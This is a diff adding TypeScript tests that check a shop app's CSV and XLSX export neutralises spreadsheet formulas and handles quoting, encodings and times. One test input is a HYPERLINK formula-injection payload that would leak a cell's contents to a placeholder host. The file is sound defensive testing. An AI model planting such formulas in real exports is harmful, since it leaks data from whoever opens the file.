@@ -1,0 +1,76 @@
+import { streamXlsxRows } from 'hucre/xlsx'
+import { expect, it } from 'vitest'
+import { csvLine, neutral, withoutNeutral } from '../../../renderer/window/exporting/csvLine.ts'
+import { type Field, spreadsheet } from '../../../renderer/window/exporting/spreadsheet.ts'
+
+// What a person types, and what a CSV file says so that no spreadsheet calculates it.
+const written: [string, string][] = [
+  ['=1+1', "'=1+1"],
+  ['=HYPERLINK("http://a.example?"&A1,"x")', '"\'=HYPERLINK(""http://a.example?""&A1,""x"")"'],
+  ['+254 712', "'+254 712"],
+  ['-Sugar', "'-Sugar"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', '"\'\r=1"'],
+  ['-5', '-5'],
+  ['+254712345678', '+254712345678'],
+  ['-1.50', '-1.50'],
+  ["'quoted", "'quoted"],
+  ['a=b', 'a=b'],
+  ['0012', '0012'],
+  ['Maziwa, “Ng’ombe”', '"Maziwa, “Ng’ombe”"'],
+  ['6" nail', '"6"" nail"'],
+  ['two\nlines', '"two\nlines"'],
+]
+
+it.each(written)('writes %j so that a spreadsheet does not calculate it', (text, line) => {
+  expect(csvLine([text])).toBe(`${line}\r\n`)
+  expect(withoutNeutral(neutral(text))).toBe(text)
+})
+
+interface Row {
+  name: string
+  price: number
+  at: number
+}
+const fields: Field<Row>[] = [
+  { header: 'Name', kind: 'text', value: ({ name }) => name },
+  { header: 'Price', kind: 'amount', value: ({ price }) => price },
+  { header: 'Time', kind: 'moment', value: ({ at }) => at },
+]
+const rows: Row[] = [
+  { name: '=1+1', price: 1250_50, at: Date.UTC(2026, 10, 20, 21, 5) },
+  { name: '0012', price: -5_00, at: Date.UTC(2026, 10, 20) },
+]
+async function* pages() {
+  yield rows
+  yield [{ name: 'Ng’ombe <&"', price: 0, at: 0 }]
+}
+
+it('writes CSV with a mark of UTF-8, amounts as numbers and times on the shop’s clock', async () => {
+  const file = await spreadsheet(pages(), { fields, title: 'Items', format: 'csv' })
+  expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await file.arrayBuffer())).toBe(
+    '\ufeffName,Price,Time\r\n\'=1+1,1250.50,2026-11-21 00:05\r\n0012,-5.00,2026-11-20 03:00\r\n"Ng’ombe <&""",0.00,1970-01-01 03:00\r\n',
+  )
+})
+
+it('writes a workbook whose texts are texts and whose amounts are numbers', async () => {
+  const file = await spreadsheet(pages(), { fields, title: 'A/B: items', format: 'xlsx' })
+  const read = []
+  for await (const { values } of streamXlsxRows(await file.arrayBuffer())) read.push(values)
+  expect(read).toEqual([
+    ['Name', 'Price', 'Time'],
+    ['=1+1', 1250.5, '2026-11-21 00:05'],
+    ['0012', -5, '2026-11-20 03:00'],
+    ['Ng’ombe <&"', 0, '1970-01-01 03:00'],
+  ])
+})
+
+it('leaves no file where a page could not be read', async () => {
+  async function* broken() {
+    yield rows
+    throw new Error('cancelled')
+  }
+  for (const format of ['csv', 'xlsx'] as const)
+    await expect(spreadsheet(broken(), { fields, title: 'Items', format })).rejects.toThrow('cancelled')
+})
